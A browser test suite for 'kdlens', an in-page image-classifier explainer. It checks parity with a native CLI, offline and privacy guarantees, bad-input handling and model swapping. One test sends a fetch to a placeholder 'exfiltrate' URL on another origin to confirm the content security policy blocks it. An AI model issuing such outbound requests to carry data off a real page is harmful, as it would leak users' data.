// The kdlens page in real headless Chromium: WebGPU (SwiftShader) and CPU fallback, parity with
// the native CLI, privacy, bad input, custom models and serving from a sub-path.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { writeFile, readFile, mkdtemp } from 'node:fs/promises';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import {
  serve, launch, openPage, dropFile, explainDropped, testImage, png, rewriteBundle, nativeExplain,
  assertSameReport, artifactsDir, keptFiles, assertOnlyPageFiles, kdlensBinary, pageSession, smallTeacher, WWW,
} from './helpers.js';
import { execFileSync } from 'node:child_process';

const MODEL = join(WWW, 'model', 'model.kdlens');
const timings = {};

function checkResult(result, classes) {
  assert.equal(result.version, 1, 'a versioned kdlens report');
  assert.equal(result.probabilities.length, classes);
  const sum = result.probabilities.reduce((a, b) => a + b, 0);
  assert.ok(Math.abs(sum - 1) < 1e-4, `probabilities sum to ${sum}`);
  assert.ok(result.feature_maps.length >= 5, 'one map per layer');
  for (const map of result.feature_maps) {
    assert.equal(map.values.length, map.size[0] * map.size[1]);
    assert.ok(map.values.every(Number.isFinite));
  }
  assert.equal(result.maps.length, 1);
  assert.equal(result.maps[0].values.length, result.maps[0].size[0] * result.maps[0].size[1]);
}

/** A map divided by its largest magnitude (how the page and the CLI draw it). */
function normalised(values) {
  const top = values.reduce((m, v) => Math.max(m, Math.abs(v)), 0);
  return values.map((v) => (top > 0 ? v / top : 0));
}

/** Whether every canvas matching `selector` has some visible (non-transparent) pixel. */
async function canvasIsPainted(page, selector) {
  return page.evaluate((sel) => [...document.querySelectorAll(sel)].every((c) => {
    const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
    for (let i = 3; i < d.length; i += 4) if (d[i] > 0) return true;
    return false;
  }), selector);
}

/** Whether a canvas holds anything but transparent or one flat colour. */
async function canvasIsDrawn(page, selector) {
  return page.evaluate((sel) => {
    const canvases = [...document.querySelectorAll(sel)];
    return canvases.length > 0 && canvases.every((c) => {
      const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
      const seen = new Set();
      for (let i = 0; i < d.length; i += 4 * 7) { if (d[i + 3] > 0) seen.add(`${d[i]},${d[i + 1]},${d[i + 2]}`); }
      return seen.size > 3;
    });
  }, selector);
}

function maxDiff(a, b) {
  assert.equal(a.length, b.length);
  return a.reduce((m, v, i) => Math.max(m, Math.abs(v - b[i])), 0);
}

for (const backend of ['webgpu', 'cpu']) {
  describe(`page on ${backend}`, () => {
    let server, context, page, logs, classes;
    before(async () => {
      server = await serve('/');
      context = await launch({ webgpu: backend === 'webgpu' });
      ({ page, logs } = await openPage(context, server.url));
      classes = await page.evaluate(() => document.querySelectorAll('#target option').length - 1);
    });
    after(async () => {
      if (process.env.KDLENS_TEST_LOGS) console.log(logs.join('\n'));
      await context?.close();
      await server?.close();
    });

    test(`${backend}: dropping an image shows probabilities, every layer map and the Grad-CAM`, async () => {
      const badge = await page.textContent('#backend-badge');
      assert.match(badge, backend === 'webgpu' ? /WebGPU/ : /CPU/, `badge says ${badge}`);
      const { result, ms } = await explainDropped(page, testImage(96, 1), 'blob.png');
      timings[backend] = { firstDropMs: ms, ...result.timings_ms };
      checkResult(result, classes);
      assert.equal(result.backend, backend);
      assert.equal(await page.locator('#probabilities li').count(), classes);
      assert.equal(await page.locator('#layer-strip canvas').count(), result.feature_maps.length);
      assert.ok(await canvasIsDrawn(page, '#layer-strip canvas'), 'layer thumbnails drawn');
      assert.ok(await canvasIsDrawn(page, '#cam-canvas'), 'Grad-CAM overlay drawn');
      const second = await explainDropped(page, testImage(80, 3), 'blob2.png');
      timings[backend].secondDropMs = second.ms;
      await page.screenshot({ path: join(await artifactsDir(), `results-${backend}.png`), fullPage: true });
    });

    test(`${backend}: every method's map and the probabilities match the native CLI on the same PNG`, async () => {
      const dir = await mkdtemp(join(tmpdir(), 'kdlens-parity-'));
      const methods = ['grad-cam', 'grad-cam++', 'hires-cam', 'layer-cam', 'integrated-gradients'];
      for (const [i, bytes] of [testImage(64, 2), testImage(120, 4)].entries()) {
        const path = join(dir, `parity${i}.png`);
        await writeFile(path, bytes);
        for (const method of methods) {
          await page.selectOption('#method', method);
          const native = await nativeExplain(path, MODEL, ['--method', method]);
          // A name of its own, so that the re-explanation the method change starts for the
          // previous image cannot be mistaken for this one.
          const { result } = await explainDropped(page, bytes, `parity${i}-${method}.png`);
          const dp = maxDiff(result.probabilities, native.probabilities);
          assert.ok(dp <= 1e-4, `${method}: probabilities differ by ${dp}`);
          assert.equal(result.maps[0].method, method);
          assert.equal(result.maps[0].layer, native.maps[0].layer);
          assert.equal(result.maps[0].class, native.maps[0].class);
          // Integrated gradients starts its path at a flat black image, where neighbouring
          // activations nearly tie in the max-pools and the last bits of the arithmetic (wasm vs
          // native SIMD) decide which one the gradient follows: 1e-2 there, 1e-3 elsewhere.
          const tolerance = method === 'integrated-gradients' ? 1e-2 : 1e-3;
          const dc = maxDiff(normalised(result.maps[0].values), normalised(native.maps[0].values));
          assert.ok(dc <= tolerance, `${method}: maps differ by ${dc}`);
          assert.ok(await canvasIsPainted(page, '#cam-canvas'), `${method} overlay drawn`);
          for (const [k, map] of result.feature_maps.entries()) {
            const d = maxDiff(map.values, native.feature_maps[k].values);
            assert.ok(d <= 1e-3, `feature map ${map.layer} differs by ${d}`);
          }
        }
      }
      await page.selectOption('#method', 'grad-cam');
    });

    test(`${backend}: the page's saved report and the CLI's report of one image agree field by field`, async () => {
      const dir = await mkdtemp(join(tmpdir(), 'kdlens-report-'));
      const path = join(dir, 'same.png');
      const bytes = testImage(72, 9);
      await writeFile(path, bytes);
      await page.selectOption('#method', 'grad-cam');
      await page.selectOption('#target', '3');
      await page.selectOption('#score', 'probability');
      const { result } = await explainDropped(page, bytes, 'same.png');
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#save-json')]);
      const saved = JSON.parse((await readFile(await download.path())).toString('utf8'));
      const layer = await page.inputValue('#layer');
      const native = await nativeExplain(path, MODEL, ['--seed', '0', '--layer', layer, '--class', '3', '--score', 'probability']);
      assert.equal(saved.backend, backend);
      assert.equal(native.backend, 'flex');
      assert.deepEqual(saved.image, { name: 'same.png', width: 72, height: 72 });
      assert.equal(saved.class, 3);
      assert.deepEqual(saved.probabilities, result.probabilities, 'the saved file is the shown report');
      assertSameReport(saved, native);
      await page.selectOption('#target', '');
      await page.selectOption('#score', 'logit');
    });

    test(`${backend}: the faithfulness switch draws the shown map's deletion and insertion curves, as the CLI computes them`, async (t) => {
      const dir = await mkdtemp(join(tmpdir(), 'kdlens-faithfulness-'));
      const path = join(dir, 'curves.png');
      const bytes = testImage(88, 5);
      await writeFile(path, bytes);
      await page.selectOption('#method', 'layer-cam');
      await page.check('#faithfulness');
      const { result } = await explainDropped(page, bytes, 'curves.png');
      assert.equal(result.faithfulness.length, 1);
      const shown = result.faithfulness[0];
      assert.equal(shown.method, 'layer-cam');
      const native = await nativeExplain(path, MODEL, ['--method', 'layer-cam', '--faithfulness']);
      const reference = native.faithfulness[0];
      for (const curve of ['deletion', 'insertion']) {
        const d = maxDiff(shown[curve].probabilities, reference[curve].probabilities);
        t.diagnostic(`${curve}: page and CLI differ by ${d.toExponential(1)} at most, AUC ${shown[curve].auc.toFixed(4)}`);
        assert.ok(d <= 1e-4, `${curve} curves differ by ${d}`);
        assert.ok(Math.abs(shown[curve].auc - reference[curve].auc) <= 1e-4, `${curve} AUC ${shown[curve].auc} vs ${reference[curve].auc}`);
      }
      // What is drawn: both curves, one vertex per point, each point's height its probability.
      assert.ok(await page.isVisible('#faithfulness-figure'));
      const drawn = await page.evaluate(() => ['deletion', 'insertion'].map((c) => document.querySelector(`#faithfulness-chart .${c}`).getAttribute('points').split(' ').map((p) => p.split(',').map(Number))));
      for (const [k, curve] of ['deletion', 'insertion'].entries()) {
        const probabilities = shown[curve].probabilities;
        assert.equal(drawn[k].length, probabilities.length, `${curve}: one vertex per point`);
        // The chart's box: x from 34 (0 %) to 300 (100 %), y from 170 (probability 0) to 10 (1).
        probabilities.forEach((p, i) => {
          const [x, y] = drawn[k][i];
          assert.ok(Math.abs(x - (34 + (266 * i) / (probabilities.length - 1))) < 0.06 && Math.abs(y - (170 - 160 * p)) < 0.06, `${curve} point ${i}: (${x}, ${y}) for ${p}`);
        });
      }
      await page.locator('#faithfulness-figure').screenshot({ path: join(await artifactsDir(), `faithfulness-${backend}.png`) });
      const caption = await page.textContent('#faithfulness-caption');
      assert.ok(caption.includes(shown.deletion.auc.toFixed(3)) && caption.includes(shown.insertion.auc.toFixed(3)), caption);
      // Off again: no curves requested, none drawn.
      await page.uncheck('#faithfulness');
      const { result: plain } = await explainDropped(page, bytes, 'curves-off.png');
      assert.equal(plain.faithfulness.length, 0);
      assert.ok(await page.isHidden('#faithfulness-figure'));
      await page.selectOption('#method', 'grad-cam');
    });

    test(`${backend}: SHAP against the bundle's training images equals kdlens explain's, with progress; a cancel stops it and the page goes on`, async (t) => {
      const dir = await mkdtemp(join(tmpdir(), 'kdlens-shap-'));
      const path = join(dir, 'shap.png');
      const bytes = testImage(80, 7);
      await writeFile(path, bytes);
      await page.selectOption('#shap-samples', '50');
      await page.selectOption('#method', 'shap');
      const { result } = await explainDropped(page, bytes, 'shap.png');
      const native = await nativeExplain(path, MODEL, ['--method', 'shap', '--shap-samples', '50', '--seed', '0']);
      assert.equal(result.maps[0].method, 'shap');
      assert.equal(result.request.shap.samples, 50);
      const d = maxDiff(normalised(result.maps[0].values), normalised(native.maps[0].values));
      t.diagnostic(`SHAP: page and CLI differ by ${d.toExponential(1)} of the largest attribution; ${result.timings_ms.shap.toFixed(0)} ms in the page`);
      // The CPU path is the native arithmetic compiled to wasm (measured 2.6e-7). On WebGPU the
      // GPU's sums differ in their last bits, and the interpolation points near the dark
      // background images make neighbouring activations tie in the max-pools, where those bits
      // pick the gradient's path (measured 1.5e-3; see integrated gradients above).
      const tolerance = backend === 'cpu' ? 1e-3 : 5e-3;
      assert.ok(d <= tolerance, `SHAP maps differ by ${d}`);
      const c = result.maps[0].completeness;
      const dt = Math.abs(c.total - native.maps[0].completeness.total);
      assert.ok(dt <= tolerance * Math.abs(c.output - c.reference) + 1e-4, `completeness totals differ by ${dt}`);
      assert.match(await page.textContent('#timings'), /SHAP \(expected gradients\) against 32 training images/);
      assert.deepEqual(await page.evaluate(() => window.kdlens.lastProgress), { step: 'shap', done: 50, total: 50 });
      // Signed attributions in the diverging colours: red for, blue against the class.
      const colours = await page.evaluate(() => {
        const c = document.querySelector('#cam-canvas');
        const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        let red = 0, blue = 0;
        for (let i = 0; i < d.length; i += 4) {
          if (d[i + 3] === 0) continue;
          if (d[i] > d[i + 2] + 40) red++;
          if (d[i + 2] > d[i] + 40) blue++;
        }
        return { red, blue };
      });
      assert.ok(colours.red > 0 && colours.blue > 0, JSON.stringify(colours));

      // Cancel as soon as the progress bar shows: no report, a message, and the page still works.
      const explained = await page.evaluate(() => Number(document.body.dataset.explained));
      await page.evaluate(() => {
        const row = document.querySelector('#explain-progress-row');
        new MutationObserver((_, observer) => {
          if (!row.hidden) { observer.disconnect(); document.querySelector('#cancel-explain').click(); }
        }).observe(row, { attributes: true });
      });
      await page.selectOption('#shap-samples', '200');
      await page.waitForFunction(() => /^Cancelled/.test(document.querySelector('#status').textContent), null, { timeout: 120_000 });
      assert.equal(await page.evaluate(() => Number(document.body.dataset.explained)), explained, 'nothing was explained');
      // The fresh worker holds no report: nothing of the last one stays on screen or can be saved.
      assert.equal(await page.locator('#probabilities li').count(), 0);
      assert.ok(await page.isDisabled('#save-json') && await page.isDisabled('#save-png'));
      assert.equal(await page.evaluate(() => window.kdlens.lastResult), null);
      assert.ok(await page.isHidden('#explain-progress-row'));
      await page.selectOption('#method', 'grad-cam');
      await page.waitForFunction((n) => Number(document.body.dataset.explained) > n && document.body.dataset.state === 'done', explained, { timeout: 120_000 });
      assert.equal(await page.evaluate(() => window.kdlens.lastResult.maps[0].method), 'grad-cam');
      await page.selectOption('#shap-samples', '200');
    });
  });
}

describe('privacy, robustness and models (CPU)', () => {
  let server, context, page, requests, logs;
  before(async () => {
    server = await serve('/');
    context = await launch({ webgpu: false });
    ({ page, requests, logs } = await openPage(context, server.url));
  });
  after(async () => {
    if (process.env.KDLENS_TEST_LOGS) console.log(logs.join('\n'));
    await context?.close();
    await server?.close();
  });

  test('after load: 20 explanations, a model swap and saved exports make zero network requests and store nothing', async () => {
    const loaded = requests.length;
    for (let i = 0; i < 20; i++) {
      await explainDropped(page, testImage(48 + i, i), `private${i}.png`);
    }
    // Swap the model for a renamed copy of itself, explain once more, then save both exports.
    const swapped = rewriteBundle(await readFile(MODEL), (m) => { m.name = 'privacy swap'; });
    await dropFile(page, '#model-drop', swapped, 'swap.kdlens', 'application/octet-stream');
    await page.waitForFunction(() => document.querySelector('#model-badge').textContent.includes('privacy swap'), null, { timeout: 60_000 });
    const { result } = await explainDropped(page, testImage(64, 21), 'private-after-swap.png');
    const saved = {};
    for (const button of ['#save-png', '#save-json']) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
      saved[button] = { name: download.suggestedFilename(), bytes: await readFile(await download.path()) };
    }
    assert.deepEqual([...saved['#save-png'].bytes.subarray(0, 8)], [137, 80, 78, 71, 13, 10, 26, 10], 'a PNG');
    const report = JSON.parse(saved['#save-json'].bytes.toString('utf8'));
    assert.deepEqual(report.image, result.image, 'the saved report is the shown one');
    assert.deepEqual(report.probabilities, result.probabilities);
    assert.match(saved['#save-json'].name, /private-after-swap/);

    assert.deepEqual(requests.slice(loaded), [], 'requests after load');
    const stored = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      caches: await caches.keys(),
      databases: (await indexedDB.databases()).length,
      serviceWorkers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    assert.deepEqual(stored, { local: 0, session: 0, caches: ['kdlens-page'], databases: 0, serviceWorkers: 1 });
    assertOnlyPageFiles(await keptFiles(page), server.url);
  });

  test('an image unlike the training images gets a plain warning; a training-like one does not', async () => {
    const { result } = await explainDropped(page, png(64, 64, () => [255, 255, 255]), 'white-page.png');
    assert.equal(result.in_distribution.in_distribution, false, JSON.stringify(result.in_distribution));
    assert.equal(await page.isVisible('#ood-warning'), true);
    assert.match(await page.textContent('#ood-warning'), /does not look like the images the model was trained on/);
    const sample = await readFile(join(WWW, 'model', 'samples', 'bag.png'));
    const { result: bag } = await explainDropped(page, sample, 'bag.png');
    assert.equal(bag.in_distribution.in_distribution, true, JSON.stringify(bag.in_distribution));
    assert.equal(await page.isVisible('#ood-warning'), false);
  });

  test('bad files get a readable message and the page keeps working', async () => {
    const good = testImage(64, 5);
    const cases = [
      ['truncated.png', good.subarray(0, 60), /corrupt|truncated|could not be decoded/i],
      ['empty.png', Buffer.alloc(0), /empty/i],
      ['notes.png', Buffer.from('this is a text file, not a picture\n'), /not an image/i],
      ['huge.png', png(12000, 12000, () => [0, 0, 0]), /12000×12000/],
    ];
    for (const [name, bytes, message] of cases) {
      const before = await page.evaluate(() => window.kdlens.lastResult && window.kdlens.lastResult.probabilities);
      await dropFile(page, '#drop-zone', bytes, name, 'image/png');
      // This file's error (the previous file's may still be shown): every message names its file.
      await page.waitForFunction((name) => {
        const status = document.querySelector('#status');
        return status.classList.contains('error') && status.textContent.includes(name);
      }, name, { timeout: 60_000 });
      const status = await page.textContent('#status');
      assert.match(status, message, `${name}: ${status}`);
      assert.ok(status.includes(name), `the message names the file: ${status}`);
      const after = await page.evaluate(() => window.kdlens.lastResult && window.kdlens.lastResult.probabilities);
      assert.deepEqual(after, before, 'the previous result stays');
    }
    const { result } = await explainDropped(page, good, 'after-errors.png');
    assert.ok(result.probabilities.length > 0, 'still explains after bad input');
  });

  test('a dropped custom bundle changes the classes; a broken one is refused and the old model stays', async () => {
    const original = await readFile(MODEL);
    const custom = rewriteBundle(original, (m) => {
      m.name = 'custom test model';
      m.classes = m.classes.map((_, i) => `custom-${i}`);
    });
    await dropFile(page, '#model-drop', custom, 'custom.kdlens', 'application/octet-stream');
    await page.waitForFunction(() => document.querySelector('#model-badge').textContent.includes('custom test model'), null, { timeout: 60_000 });
    const { result } = await explainDropped(page, testImage(64, 6), 'custom.png');
    const labels = await page.locator('#probabilities li > span:first-child').allTextContents();
    assert.ok(labels.every((l) => l.startsWith('custom-')), labels.join(','));
    assert.equal(result.probabilities.length, labels.length);

    await dropFile(page, '#model-drop', original.subarray(0, original.length - 100), 'broken.kdlens', 'application/octet-stream');
    await page.waitForFunction(() => document.querySelector('#status').classList.contains('error'), null, { timeout: 60_000 });
    const status = await page.textContent('#status');
    assert.match(status, /broken\.kdlens was not loaded/);
    assert.match(status, /truncated|checksum/i);
    assert.match(await page.textContent('#model-badge'), /custom test model/, 'previous model still in use');
    await explainDropped(page, testImage(64, 7), 'still-works.png');
  });

  test('a teacher beside the model: both predictions and maps and their agreement, as the CLI computes them; one of other classes is refused', async (t) => {
    const dir = await mkdtemp(join(tmpdir(), 'kdlens-teacher-'));
    const teacherPath = await smallTeacher();
    const teacherBytes = await readFile(teacherPath);
    // The page's own model again (an earlier test left one of other classes loaded).
    const own = await readFile(MODEL);
    const ownName = JSON.parse(own.subarray(16, 16 + own.readUInt32LE(12)).toString('utf8')).name;
    await page.setInputFiles('#model-input', MODEL);
    await page.waitForFunction((name) => document.querySelector('#model-badge').textContent === `Model: ${name}`, ownName, { timeout: 60_000 });
    // Chosen with the file picker: its 28 MB would not pass through a synthetic drop's array.
    await page.setInputFiles('#teacher-input', teacherPath);
    await page.waitForFunction(() => !document.querySelector('#teacher-remove').hidden, null, { timeout: 60_000 });
    const path = join(dir, 'beside.png');
    const bytes = testImage(64, 5);
    await writeFile(path, bytes);
    await page.selectOption('#method', 'grad-cam');
    const { result } = await explainDropped(page, bytes, 'beside.png');
    const beside = await page.evaluate(() => window.kdlens.lastTeacher);
    // The teacher's map is of the class the model's map shows (here the model's prediction),
    // on its deepest stage at least as fine as the model's (its own last stage is 1×1 at 32²).
    const teacher = beside.report;
    assert.equal(teacher.maps[0].class, result.class);
    const [h, w] = result.feature_maps.find((m) => m.layer === result.maps[0].layer).size;
    const comparable = teacher.feature_maps.filter((m) => m.size[0] >= h && m.size[1] >= w).at(-1);
    assert.equal(teacher.maps[0].layer, comparable.layer);
    assert.ok(teacher.feature_maps.at(-1).size[0] < h, 'its last stage is coarser than the model\'s');
    const native = await nativeExplain(path, teacherPath, ['--class', String(result.class), '--layer', comparable.layer]);
    assert.ok(maxDiff(teacher.probabilities, native.probabilities) <= 1e-4, 'the teacher predicts as the CLI');
    const dm = maxDiff(normalised(teacher.maps[0].values), normalised(native.maps[0].values));
    assert.ok(dm <= 1e-3, `the teacher's map differs by ${dm}`);
    // The agreement: the same prediction or not, and KL(teacher ‖ student) computed here.
    const a = beside.agreement;
    assert.equal(a.same_prediction, teacher.predicted === result.predicted);
    const kl = teacher.probabilities.reduce((sum, p, i) => (p > 0 ? sum + p * Math.log(p / Math.max(result.probabilities[i], 1e-12)) : sum), 0);
    assert.ok(Math.abs(a.kl_divergence - kl) <= 1e-5, `KL ${a.kl_divergence} vs ${kl}`);
    assert.deepEqual(a.maps.map(([method]) => method), ['grad-cam']);
    const rho = a.maps[0][1].spearman;
    assert.ok(typeof rho === 'number' && rho >= -1 && rho <= 1, `Spearman ${rho}: both maps have a ranking`);
    t.diagnostic(`agreement: ${JSON.stringify(a)}`);
    assert.ok(await page.isVisible('#teacher-panel'));
    assert.ok(await canvasIsDrawn(page, '#teacher-canvas'), "the teacher's map is drawn");
    assert.match(await page.textContent('#agreement'), /KL\(teacher ‖ student\) \d\.\d{3} nats · Grad-CAM maps: Spearman ρ/);
    // A teacher of another task is refused and the loaded one stays.
    const other = rewriteBundle(teacherBytes, (m) => { m.classes = m.classes.map((_, i) => `other-${i}`); });
    await writeFile(join(dir, 'other.kdlens'), other);
    await page.setInputFiles('#teacher-input', join(dir, 'other.kdlens'));
    await page.waitForFunction(() => document.querySelector('#status').textContent.includes('other.kdlens'));
    assert.match(await page.textContent('#status'), /other\.kdlens was not loaded as the teacher: .*same task/);
    const again = await explainDropped(page, testImage(60, 2), 'beside-again.png');
    assert.equal((await page.evaluate(() => window.kdlens.lastTeacher)).report.image.name, again.result.image.name);
    // Removed: no teacher panel, no teacher report.
    await page.click('#teacher-remove');
    await page.waitForFunction(() => document.querySelector('#teacher-panel').hidden);
    await explainDropped(page, testImage(60, 3), 'alone.png');
    assert.equal(await page.evaluate(() => window.kdlens.lastTeacher), null);
  });

  test('a model trained with ImageNet statistics: the page normalises its input as the CLI does', async () => {
    const original = await readFile(MODEL);
    const dir = await mkdtemp(join(tmpdir(), 'kdlens-imagenet-'));
    const bundle = join(dir, 'imagenet.kdlens');
    // What `kdlens train-teacher --normalize imagenet` records (crate/kdlens-cli/tests/normalization.rs).
    await writeFile(bundle, rewriteBundle(original, (m) => {
      m.name = 'imagenet statistics';
      m.preprocessing.mean = [0.485, 0.456, 0.406];
      m.preprocessing.std = [0.229, 0.224, 0.225];
    }));
    const path = join(dir, 'photo.png');
    const bytes = testImage(72, 11);
    await writeFile(path, bytes);
    const { result: unit } = await explainDropped(page, bytes, 'photo.png');
    await dropFile(page, '#model-drop', await readFile(bundle), 'imagenet.kdlens', 'application/octet-stream');
    await page.waitForFunction(() => document.querySelector('#model-badge').textContent.includes('imagenet statistics'), null, { timeout: 60_000 });
    try {
      const { result } = await explainDropped(page, bytes, 'photo.png');
      assert.notDeepEqual(result.probabilities, unit.probabilities, 'the statistics change what the model sees');
      const layer = await page.inputValue('#layer');
      assertSameReport(result, await nativeExplain(path, bundle, ['--seed', '0', '--layer', layer]));
    } finally {
      await dropFile(page, '#model-drop', original, 'model.kdlens', 'application/octet-stream');
      await page.waitForFunction(() => !document.querySelector('#model-badge').textContent.includes('imagenet statistics'), null, { timeout: 60_000 });
    }
  });

  test('the content security policy blocks a fetch to another origin', async () => {
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('http://example.invalid/exfiltrate');
        return 'allowed';
      } catch (e) {
        return `blocked: ${e.message}`;
      }
    });
    assert.match(outcome, /blocked/);
    assert.ok(logs.some((l) => /Content Security Policy/i.test(l)), 'Chromium reports the CSP violation');
  });
});

test('a WebGPU device lost during an explanation falls back to the CPU and still explains', async () => {
  const server = await serve('/');
  const context = await launch({ webgpu: true });
  try {
    const { page, logs } = await openPage(context, `${server.url}?test-hooks`);
    assert.match(await page.textContent('#backend-badge'), /WebGPU/);
    const first = await explainDropped(page, testImage(64, 30), 'before-loss.png');
    assert.equal(first.result.backend, 'webgpu');
    await page.evaluate(() => { window.kdlens.loseDeviceOnNextExplain = true; });
    const { result } = await explainDropped(page, testImage(64, 31), 'during-loss.png');
    assert.equal(result.backend, 'cpu', logs.join('\n'));
    checkResult(result, first.result.probabilities.length);
    const badge = await page.textContent('#backend-badge');
    assert.match(badge, /CPU.*WebGPU device was lost/, badge);
    // The CPU explanation of the same kind of input agrees with the GPU one before the loss.
    const again = await explainDropped(page, testImage(64, 30), 'after-loss.png');
    const d = maxDiff(again.result.probabilities, first.result.probabilities);
    assert.ok(d <= 1e-4, `CPU and WebGPU probabilities differ by ${d}`);
  } finally {
    await context.close();
    await server.close();
  }
});

test('after one visit the page reloads and explains with its server gone, keeping only its own files', async () => {
  const server = await serve('/kdlens/');
  const context = await launch({ webgpu: false });
  try {
    const { page, requests, logs } = await openPage(context, server.url);
    assert.equal(await page.isVisible('#offline-badge'), true, 'the page says it works offline');
    const loaded = requests.length;
    await server.close();
    await page.reload();
    await page.waitForFunction(() => ['ready', 'error'].includes(document.body.dataset.state), null, { timeout: 180_000 });
    assert.equal(await page.evaluate(() => document.body.dataset.state), 'ready', `${await page.textContent('#status')}\n${logs.join('\n')}`);
    assert.ok(await page.evaluate(() => navigator.serviceWorker.controller !== null), 'the reload was served by the service worker');
    const { result } = await explainDropped(page, testImage(64, 11), 'offline-private.png');
    assert.equal(result.maps.length, 1);
    const sample = await page.locator('#samples button').count();
    assert.ok(sample > 0, 'the sample images came back from the copy');
    assert.ok(requests.length > loaded, 'the reload asked the network (and fell back to the copy)');
    assertOnlyPageFiles(await keptFiles(page), server.url);
  } finally {
    await context.close();
  }
});

test("the model folder's teacher (as `kdlens demo` writes it) is fetched on request from the page's own site, shown beside the model and kept for offline use", async () => {
  const dir = await mkdtemp(join(tmpdir(), 'kdlens-offered-'));
  // What the demo puts beside the page's model: its teacher as int8, named in index.json.
  execFileSync(kdlensBinary(), ['--run-dir', join(dir, 'export-run'), 'export', '--model', await smallTeacher(),
    '--out', join(dir, 'web'), '--precision', 'int8'], { stdio: 'pipe' });
  const teacherPath = join(dir, 'web', 'model.kdlens');
  const teacherBytes = await readFile(teacherPath);
  const index = JSON.parse(await readFile(join(WWW, 'model', 'index.json'), 'utf8'));
  index.teacher = { file: 'teacher.kdlens', bytes: teacherBytes.length };
  const extra = async (path) => {
    if (path === '/model/index.json') return { type: 'application/json', body: JSON.stringify(index) };
    if (path === '/model/teacher.kdlens') return { type: 'application/octet-stream', body: teacherBytes };
    return null;
  };
  const { server, page, requests, logs, close } = await pageSession({ extra });
  try {
    const offer = await page.textContent('#teacher-offer');
    assert.ok(await page.isVisible('#teacher-offer'), 'the page offers the teacher');
    assert.match(offer, new RegExp(`teacher\\.kdlens \\(${(teacherBytes.length / 1e6).toFixed(1)} MB\\)`));
    // Fetched through the service worker, which keeps a copy.
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 30_000 });
    const before = requests.length;
    await page.evaluate(() => {
      window.statuses = [];
      window.fetched = [];
      const status = document.querySelector('#status');
      new MutationObserver((records) => {
        for (const r of records) for (const n of r.addedNodes) window.statuses.push(n.textContent);
      }).observe(status, { childList: true });
      const bar = document.querySelector('#teacher-progress');
      new MutationObserver(() => window.fetched.push(bar.value)).observe(bar, { attributes: true, attributeFilter: ['value'] });
    });
    await page.click('#teacher-offer');
    await page.waitForFunction(() => !document.querySelector('#teacher-remove').hidden || document.body.dataset.lastError, null, { timeout: 60_000 });
    assert.ok(await page.isVisible('#teacher-remove'), `${await page.textContent('#status')}\n${logs.join('\n')}`);
    // Its progress was shown, up to the whole bundle, and is gone.
    const progress = (await page.evaluate(() => window.statuses)).filter((s) => s.startsWith('Fetching model/teacher.kdlens'));
    const mb = (teacherBytes.length / 1e6).toFixed(1);
    assert.equal(progress[0], `Fetching model/teacher.kdlens: 0.0 of ${mb} MB…`, `statuses: ${progress}`);
    assert.equal(progress.at(-1), `Fetching model/teacher.kdlens: ${mb} of ${mb} MB…`, `statuses: ${progress}`);
    const values = await page.evaluate(() => window.fetched);
    assert.equal(values.at(-1), teacherBytes.length, `the bar's values: ${values}`);
    assert.ok(!(await page.isVisible('#teacher-progress')), 'the progress bar is gone');
    assert.ok(!(await page.isVisible('#teacher-offer')), 'no offer while the teacher is shown');
    const fetched = requests.slice(before);
    assert.ok(fetched.length > 0 && fetched.every((u) => u === `${server.url}model/teacher.kdlens`), `requests: ${fetched}`);
    // Beside the model, predicting as the CLI with the same int8 bundle.
    const bytes = testImage(64, 12);
    const path = join(dir, 'offered.png');
    await writeFile(path, bytes);
    await explainDropped(page, bytes, 'offered.png');
    const beside = await page.evaluate(() => window.kdlens.lastTeacher);
    assert.ok(beside && (await page.isVisible('#teacher-panel')), 'the teacher is shown beside the model');
    const native = await nativeExplain(path, teacherPath, ['--class', String(beside.report.maps[0].class)]);
    assert.ok(maxDiff(beside.report.probabilities, native.probabilities) <= 1e-4, 'the teacher predicts as the CLI');
    // Removed, it is offered again; not beside a model of other classes, which it could not explain.
    await page.click('#teacher-remove');
    await page.waitForFunction(() => !document.querySelector('#teacher-offer').hidden);
    const other = join(dir, 'other-task.kdlens');
    await writeFile(other, rewriteBundle(await readFile(MODEL), (m) => { m.name = 'other task'; m.classes = m.classes.map((_, i) => `other-${i}`); }));
    await page.setInputFiles('#model-input', other);
    await page.waitForFunction(() => document.querySelector('#model-badge').textContent.includes('other task'), null, { timeout: 60_000 });
    assert.ok(!(await page.isVisible('#teacher-offer')), 'no offer beside a model of other classes');
    // With the site gone, the reloaded page still offers it, from its copy.
    await server.close();
    await page.reload();
    await page.waitForFunction(() => ['ready', 'error'].includes(document.body.dataset.state), null, { timeout: 180_000 });
    assert.ok(await page.isVisible('#teacher-offer'), 'offered offline');
    await page.click('#teacher-offer');
    await page.waitForFunction(() => !document.querySelector('#teacher-remove').hidden || document.body.dataset.lastError, null, { timeout: 60_000 });
    assert.match(await page.textContent('#status'), /Teacher .* loaded from model\/teacher\.kdlens/);
    assertOnlyPageFiles(await keptFiles(page), server.url);
  } finally {
    await close();
  }
});

test('served from a sub-path (/kdlens/), everything loads and works', async () => {
  const server = await serve('/kdlens/');
  const context = await launch({ webgpu: false });
  try {
    const { page, requests } = await openPage(context, server.url);
    assert.ok(requests.every((u) => u.startsWith(server.url)), `all requests under the sub-path: ${requests.filter((u) => !u.startsWith(server.url))}`);
    const { result } = await explainDropped(page, testImage(64, 8), 'subpath.png');
    assert.ok(result.probabilities.length > 0);
  } finally {
    await context.close();
    await server.close();
  }
});

after(async () => {
  await writeFile(join(await artifactsDir(), 'timings.json'), JSON.stringify(timings, null, 2));
});
